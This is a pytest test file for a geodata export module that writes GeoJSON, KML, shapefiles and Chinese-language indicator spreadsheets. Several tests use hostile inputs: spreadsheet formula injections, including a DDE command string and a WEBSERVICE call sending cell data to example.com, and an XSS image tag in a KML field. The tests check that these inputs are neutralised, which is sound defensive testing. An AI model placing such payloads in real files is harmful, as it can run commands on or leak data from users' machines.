"""Exports: RFC 7946 GeoJSON (winding, precision, byte stability), KML, CSV/XLSX, Shapefile-safe."""

from __future__ import annotations

import io
import json
import zipfile

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from shapely.geometry import LineString, Point, Polygon

from atlas import export
from atlas.schema import COLUMNS, frame, indicator_table

# clockwise exterior with a counter-clockwise hole: both must be flipped for RFC 7946
CW = Polygon(
    [(121.0, 41.0), (121.0, 41.1234567891), (121.1, 41.1), (121.1, 41.0)],
    [[(121.02, 41.02), (121.08, 41.02), (121.08, 41.08), (121.02, 41.08)]],
)


def row(name, geom, precision="derived", quote="“南翼”即营口市科技创新产业园"):
    return {
        "id": f"p-2021:layout:一核两翼.{name}",
        "plan_id": "p-2021",
        "layer": "layout",
        "layout": "一核两翼",
        "component": name,
        "role": "wing",
        "name": name,
        "precision": precision,
        "confidence": 0.7 if geom is not None else 0.0,
        "anchors": "甲镇",
        "source_line": 567,
        "source_quote": quote,
        "provenance": "extracted",
        "rule": "equal_area_disc",
        "note": "",
        "area_km2": 5.3483,
        "geometry": geom,
    }


@pytest.fixture(scope="module")
def gdf():
    long_quote = "很长的句子。" * 60  # 1080 bytes: longer than a DBF field
    return frame(
        [
            row("南翼", CW),
            row("北翼", Point(121.123456789, 41.987654321), quote=long_quote),
            row("一轴", LineString([(121, 41), (121.5, 41.5)])),
            row("双廊", None, "unresolved"),
        ]
    )


def _signed_area(ring):
    return shapely.LinearRing(ring).is_ccw


def test_geojson_is_rfc7946(gdf):
    doc = json.loads(export.geojson_bytes(gdf))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    ids = [f["id"] for f in doc["features"]]
    assert ids == sorted(ids)
    poly = next(f for f in doc["features"] if f["properties"]["name"] == "南翼")["geometry"]
    assert _signed_area(poly["coordinates"][0]) is True  # exterior counter-clockwise
    assert _signed_area(poly["coordinates"][1]) is False  # hole clockwise
    assert [121.0, 41.123457] in poly["coordinates"][0]  # 6 decimals
    pt = next(f for f in doc["features"] if f["properties"]["name"] == "北翼")["geometry"]
    assert pt["coordinates"] == [121.123457, 41.987654]
    unres = next(f for f in doc["features"] if f["properties"]["name"] == "双廊")
    assert unres["geometry"] is None and unres["properties"]["precision"] == "unresolved"
    assert list(unres["properties"]) == list(COLUMNS)
    assert unres["properties"]["area_km2"] == 5.3483


def test_geojson_is_byte_stable_and_order_independent(gdf):
    a = export.geojson_bytes(gdf)
    b = export.geojson_bytes(gdf.iloc[::-1])
    assert a == b
    assert a.decode("utf-8").count("\n") == len(gdf) + 2  # header, one line per feature, end


def test_geojson_opens_in_geopandas(gdf, tmp_path):
    p = export.write_geojson(gdf, tmp_path / "layout.geojson")
    back = gpd.read_file(p)
    assert set(COLUMNS) <= set(back.columns)
    assert len(back) == 4 and back.crs.to_epsg() == 4326


def test_kml_has_located_features_with_the_schema(gdf, tmp_path):
    p = export.write_kml(gdf, tmp_path / "layout.kml")
    text = p.read_text(encoding="utf-8")
    assert "<name>南翼</name>" in text and "双廊" not in text
    back = gpd.read_file(p)
    assert len(back) == 3
    # KML's own <name> comes back as Name; every other schema column is ExtendedData
    assert set(COLUMNS) - {"name"} <= set(back.columns)
    assert sorted(back["Name"]) == sorted(["南翼", "北翼", "一轴"])
    assert "p-2021:layout:一核两翼.南翼" in set(back["id"])
    assert export.kml_bytes(gdf).startswith(b"<?xml")


def test_gpkg_bytes_round_trip(gdf, tmp_path):
    data = export.gpkg_bytes({"layout": gdf})
    p = tmp_path / "x.gpkg"
    p.write_bytes(data)
    back = gpd.read_file(p, layer="layout")
    assert set(COLUMNS) <= set(back.columns) and len(back) == 4


@pytest.fixture(scope="module")
def indicators():
    return indicator_table(
        [
            {
                "id": "a:indicator:gdp",
                "plan_id": "a",
                "adcode": "210781",
                "name": "地区生产总值",
                "unit": "亿元",
                "base_year": 2020,
                "base_value": 147.0,
                "target_year": 2025,
                "target_value": 200.0,
                "source_line": 27,
                "source_quote": "地区生产总值147亿元",
            },
            {
                "id": "b:indicator:pm25",
                "plan_id": "b",
                "adcode": "210802",
                "name": "PM2.5 年平均浓度",
                "unit": "微克/立方米",
                "base_value": 38.0,
                "target_value": 35.0,
                "attribute": "约束性",
                "source_line": 523,
                "source_quote": "PM2.5 年平均浓度",
            },
        ]
    )


def test_indicator_csv_and_xlsx(indicators):
    csv = export.indicators_csv_bytes(indicators)
    assert csv.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese names
    back = pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig")
    assert list(back.columns)[:4] == ["id", "plan_id", "adcode", "jurisdiction"]
    assert back.loc[0, "target_value"] == 200.0
    xlsx = pd.read_excel(io.BytesIO(export.indicators_xlsx_bytes(indicators)), sheet_name=None)
    assert set(xlsx) == {"all", "a", "b"}
    assert xlsx["b"].loc[0, "attribute"] == "约束性"
    with pytest.raises(Exception, match="not an indicator table"):
        export.indicators_csv_bytes(indicators.drop(columns=["unit"]))


def test_shapefile_names_fit_ten_bytes():
    names = export.shapefile_names([*COLUMNS, "source_line_extra", "标注文字说明"])
    assert all(len(v.encode("utf-8")) <= 10 for v in names.values())
    assert len(set(names.values())) == len(names)
    assert names["source_quote"] == "src_quote"


def test_shapefile_safe_export(gdf, tmp_path):
    files = export.write_shapefiles({"layout": gdf}, tmp_path)
    names = {p.name for p in files}
    assert {"layout_pt.shp", "layout_ln.shp", "layout_pg.shp", "layout_unresolved.csv"} <= names
    assert (tmp_path / "layout_pg.cpg").read_text() == "UTF-8"
    pt = gpd.read_file(tmp_path / "layout_pt.shp")
    assert "src_quote" in pt.columns and "src_line" in pt.columns
    assert pt.loc[0, "name"] == "北翼"
    assert len(pt.loc[0, "src_quote"].encode("utf-8")) <= export.DBF_TEXT_BYTES
    fields = pd.read_csv(tmp_path / "fields.csv")
    assert set(fields["column"]) == set(COLUMNS)
    assert "254 bytes" in fields.loc[fields["column"] == "source_quote", "note"].iloc[0]
    zipped = zipfile.ZipFile(io.BytesIO(export.shapefile_zip_bytes({"layout": gdf})))
    assert "layout_pg.shp" in zipped.namelist() and "fields.csv" in zipped.namelist()


def _monitor_rows():
    from atlas.monitor.links import SourceRef
    from atlas.monitor.report import MonitorRow

    common = dict(
        plan_id="a", unit="亿元", base_year=2020, base_value=147.0, target_year=2025,
        target_value=200.0, observed_unit="", rule="", observed_value=None,
    )  # fmt: skip
    return [
        MonitorRow(
            key="gdp", name="地区生产总值", target_growth=6.5, target_text="200",
            observed_year=2023, observed_growth=5.4, status="behind",
            sources=(SourceRef("a", 27, "target"), SourceRef("a-report", 17, "observed_growth")),
            **common,
        ),
        MonitorRow(
            key="x", name="=HYPERLINK(\"http://evil\",\"点我\")", target_growth=None,
            target_text="+1", observed_year=None, observed_growth=None, status="unknown",
            sources=(SourceRef("a", 30, "target"),), **common,
        ),
    ]  # fmt: skip


def _findings():
    from atlas.monitor.consistency import Finding, Side

    city = Side("city", 12, "-建设凌海港区@", "凌海港区", "port", "port")
    county = Side("county", 3, "=1+2 凌海港区扩能", "凌海港区", "layout", "zone")
    return [
        Finding(
            "conflict", "凌海港区", "锚点为凌海市", "角色不同：市为port，县为zone", city, county
        ),
        Finding("gap", "滨海大道", "穿越凌海市", "市级规划赋予凌海市，县级规划未提及", city, None),
    ]


def test_xlsx_monitoring_and_consistency_sheets(indicators):
    import openpyxl

    data = export.indicators_xlsx_bytes(
        indicators,
        monitor=_monitor_rows(),
        consistency=[("city", "county", _findings())],
        role_names={"port": "港口", "zone": "片区"},
    )
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["all", "a", "b", "实施评估", "一致性"]
    mon = wb["实施评估"]
    head = [c.value for c in mon[1]]
    assert head == ["指标", "单位", "基期", "目标", "实际", "状态", "判断依据", "出处"]
    gdp = [c.value for c in mon[2]]
    assert gdp[4] == "2023年 增长5.4%" and gdp[5] == "滞后"
    assert gdp[7] == "a:27；a-report:17"
    assert mon.cell(2, 6).fill.start_color.rgb == "FFD73027"  # status_colour("behind")
    assert mon.cell(3, 6).fill.start_color.rgb == "FFBDBDBD"  # unknown: grey
    cons = wb["一致性"]
    assert [c.value for c in cons[1]] == [
        "类别",
        "事项",
        "关联",
        "说明",
        "市级规划原文",
        "县级规划原文",
    ]
    row = [c.value for c in cons[2]]
    assert row[0] == "冲突" and row[3] == "角色不同：市为港口，县为片区"
    assert row[4] == "city:12「-建设凌海港区@」" and row[5] == "county:3「=1+2 凌海港区扩能」"
    assert [c.value for c in cons[3]][5] == "（未提及）"


def test_xlsx_cells_that_look_like_formulas_are_text(indicators):
    import openpyxl

    evil = indicators.copy()
    evil.loc[0, "name"] = "=cmd|' /C calc'!A0"
    evil.loc[1, "source_quote"] = "@SUM(1+1)"
    evil.loc[1, "unit"] = "-2+3"
    data = export.indicators_xlsx_bytes(evil, monitor=_monitor_rows())
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["all"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in ("=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    mon = wb["实施评估"]
    link = mon.cell(3, 1)
    assert link.value == '=HYPERLINK("http://evil","点我")' and link.data_type == "s"
    assert link.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula anywhere in the workbook
    plain = wb["a"].cell(2, 2)  # an ordinary text cell ("a") is not touched
    assert plain.value == "a"
    assert not plain.quotePrefix


# --------------------------------------------------------------------------- issue 17

HOSTILE = [
    '=WEBSERVICE("http://example.com/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_become_text_and_numbers_stay_numbers(value):
    assert export.text_cell(value) == "'" + value
    assert export.text_cell(-3.5) == -3.5
    assert export.text_cell("地区生产总值") == "地区生产总值"


@pytest.fixture(scope="module")
def hostile_indicators():
    rows = []
    for i, name in enumerate(HOSTILE):
        rows.append(
            {
                "id": f"x:indicator:{i}",
                "plan_id": "plan[1]:a*b?/c\\d-with-a-very-long-name-beyond-31",
                "name": name,
                "unit": "%",
                "base_value": -3.5,
                "target_value": 2.0,
                "target_text": name,
                "source_line": i + 1,
                "source_quote": name,
            }
        )
    return indicator_table(rows)


def test_csv_has_no_live_formula(hostile_indicators):
    back = pd.read_csv(
        io.BytesIO(export.indicators_csv_bytes(hostile_indicators)),
        encoding="utf-8-sig",
        keep_default_na=False,
    )
    for col in ("name", "target_text", "source_quote"):
        for cell in back[col]:
            assert cell.startswith("'"), cell
    assert back["base_value"].tolist() == [-3.5] * len(HOSTILE)  # still numeric


def test_xlsx_has_no_formula_cells_and_legal_sheet_names(hostile_indicators):
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(export.indicators_xlsx_bytes(hostile_indicators)))
    assert len(wb.sheetnames) == 2
    for ws in wb.worksheets:
        assert len(ws.title) <= 31 and not set(ws.title) & set("[]:*?/\\")
        for r in ws.iter_rows():
            for c in r:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value in HOSTILE:
                    # stored as text with Excel's quote prefix: shown as written, never run
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
        header = [c.value for c in ws[1]]
        col = header.index("base_value") + 1
        values = [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
        assert values == [-3.5] * len(HOSTILE)  # a real negative number stays numeric


def test_sheet_names_are_unique_legal_and_short():
    names = export.sheet_names(["a/b", "a:b", "x" * 40, "x" * 40 + "y", "all", "[]"])
    assert len(set(n.lower() for n in names.values()) | {"all"}) == len(names) + 1
    for n in names.values():
        assert 0 < len(n) <= 31 and not set(n) & set("[]:*?/\\")


def test_kml_description_is_escaped_text(gdf, tmp_path):
    evil = gdf.copy()
    evil["source_quote"] = '<img src="http://example.com/x.png" onerror="alert(1)">'
    text = export.kml_bytes(evil).decode("utf-8")
    # no markup anywhere (description, name, ExtendedData): HTML-escaped, inside CDATA or XML
    assert "<img" not in text
    assert "&lt;img" in text or "&amp;lt;img" in text


def test_export_bytes_refuses_unknown_formats_and_empty_selections(gdf):
    from atlas.errors import InputError

    with pytest.raises(InputError, match="unknown export format 'doc'"):
        export.export_bytes("doc", {"layout": gdf})
    with pytest.raises(InputError, match="no features"):
        export.export_bytes("gpkg", {})
    assert export.export_bytes("geojson", {"layout": gdf}) == export.geojson_bytes(gdf)
